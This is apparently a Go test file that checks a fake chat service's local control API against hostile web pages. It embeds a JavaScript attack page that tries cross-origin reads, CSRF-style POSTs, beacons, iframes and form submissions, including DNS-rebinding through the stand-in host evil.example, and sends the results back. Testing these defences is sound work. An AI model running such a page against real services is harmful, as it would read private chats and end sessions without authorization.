// SPDX-License-Identifier: Apache-2.0

//go:build chromium

package control_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/participant-go/connectparticipant/internal/devtools"
	"github.com/participant-go/connectparticipant/participanttest"
	"github.com/participant-go/connectparticipant/participanttest/control"
)

// attack tries what a page can to read the chats at a base URL and to end one, and sends
// what came of it to its own server. %s is an object with the base and the ContactId.
const attack = `<!doctype html><title>attack</title><body><script>
const { base, id } = %s;
const end = base + "chats/" + id + "/end";
const text = (response) => response.text();
const attempts = {
  read: () => fetch(base + "chats").then(text),
  readWithoutCORS: () => fetch(base + "chats", { mode: "no-cors" }).then(text),
  readWithTheHeader: () => fetch(base + "chats", { headers: { "X-Participant-Control": "1" } }).then(text),
  end: () => fetch(end, { method: "POST" }).then(text),
  endWithoutCORS: () => fetch(end, { method: "POST", mode: "no-cors", body: "{}" }).then(text),
  endWithTheHeader: () => fetch(end, { method: "POST", headers: { "X-Participant-Control": "1" }, body: "{}" }).then(text),
  beacon: () => String(navigator.sendBeacon(end, "{}") && ""),
  frame: () => new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.onload = () => { try { resolve(frame.contentDocument.body.innerText) } catch (e) { resolve("blocked " + e) } };
    frame.src = base + "chats";
  }),
  script: () => new Promise((resolve) => {
    const script = document.body.appendChild(document.createElement("script"));
    script.onload = () => resolve("");
    script.onerror = () => resolve("blocked");
    script.src = base + "chats";
  }),
  form: () => new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = "target";
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { method: "post", action: end, target: "target" });
    form.submit();
    setTimeout(resolve, 500, ""); // time enough to end the chat
  }),
};
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((resolve) => setTimeout(resolve, 5000, "nothing within 5 s"));
    results[name] = await Promise.race([attempt(), late]).catch((e) => "blocked " + e);
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(results) });
})();
</script>`

// attacker serves the page and takes its report.
type attacker struct {
	page   string
	report chan map[string]string
}

func newAttacker(base, contactID string) *attacker {
	where, _ := json.Marshal(map[string]string{"base": base, "id": contactID})
	return &attacker{page: fmt.Sprintf(attack, where), report: make(chan map[string]string, 1)} // one report
}

// ServeHTTP serves both.
func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodPost {
		var results map[string]string
		_ = json.NewDecoder(r.Body).Decode(&results)
		a.report <- results
		return
	}
	w.Header().Set("Content-Type", "text/html")
	_, _ = fmt.Fprint(w, a.page)
}

// visit opens the page in Chromium, for which every name ends at this machine.
func (a *attacker) visit(t *testing.T, address string) map[string]string {
	t.Helper()
	path, err := exec.LookPath("chromium")
	require.NoError(t, err, "install Chromium: apt-get install chromium")
	ctx, kill := context.WithCancel(context.Background())
	cmd := exec.CommandContext(ctx, path, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--host-resolver-rules=MAP evil.example 127.0.0.1", "--remote-debugging-port=0", "--user-data-dir="+devtools.Profile(t), address)
	cmd.WaitDelay = 10 * time.Second
	require.NoError(t, cmd.Start())
	defer func() {
		kill()
		_ = cmd.Wait()
	}()
	select {
	case results := <-a.report:
		return results
	case <-time.After(time.Minute):
		require.Fail(t, "the page has sent no report")
		return nil
	}
}

// A page gets nothing of the fake's chats and changes none, whether it comes from another
// port, from another site, or from a name that was rebound to this machine.
func TestPagesInChromiumCannotUseTheAPI(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name    string
		rebound bool
		host    string // of the page
	}{
		{"another port", false, "127.0.0.1"},
		{"another site", false, "evil.example"},
		{"a rebound name", true, "evil.example"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			srv, contact := newFake(t)
			base := srv.URL + "/_control/v1/"
			if c.rebound {
				base = "/_control/v1/" // of the page's own origin
			}
			a := newAttacker(base, contact.ID)
			address := srv.URL + "/attack"
			if c.rebound {
				srv.Handle("/attack", a)
				srv.Handle("/report", a)
			} else {
				server := httptest.NewServer(a)
				defer server.Close()
				address = server.URL
			}
			u, err := url.Parse(address)
			require.NoError(t, err)
			u.Host = c.host + ":" + u.Port()
			results := a.visit(t, u.String())
			require.Len(t, results, 10)
			require.Empty(t, whichShow(results, contact.ID))
			require.False(t, contact.Ended())
		})
	}
}

// The same page from an allowed origin shows that the attempts would work.
func TestOwnPageInChromiumCanUseTheAPI(t *testing.T) {
	t.Parallel()
	srv, contact := newFake(t)
	a := newAttacker("/_control/v1/", contact.ID)
	srv.Handle("/own", a)
	srv.Handle("/report", a)
	results := a.visit(t, strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)+"/own")
	require.Equal(t, []string{"frame", "read", "readWithTheHeader", "readWithoutCORS"}, whichShow(results, contact.ID))
	require.Contains(t, results["end"], "X-Participant-Control")
	require.Equal(t, "{}\n", results["endWithTheHeader"])
	require.True(t, contact.Ended())
}

// whichShow returns the attempts that have read the chat, without its tokens.
func whichShow(results map[string]string, contactID string) (names []string) {
	for name, result := range results {
		if strings.Contains(result, contactID) {
			names = append(names, name)
		}
	}
	slices.Sort(names)
	return names
}

func newFake(t *testing.T) (*participanttest.Server, *participanttest.Contact) {
	t.Helper()
	srv := participanttest.Start(t)
	srv.Handle(control.Prefix, control.Handler(srv))
	return srv, srv.NewChat()
}
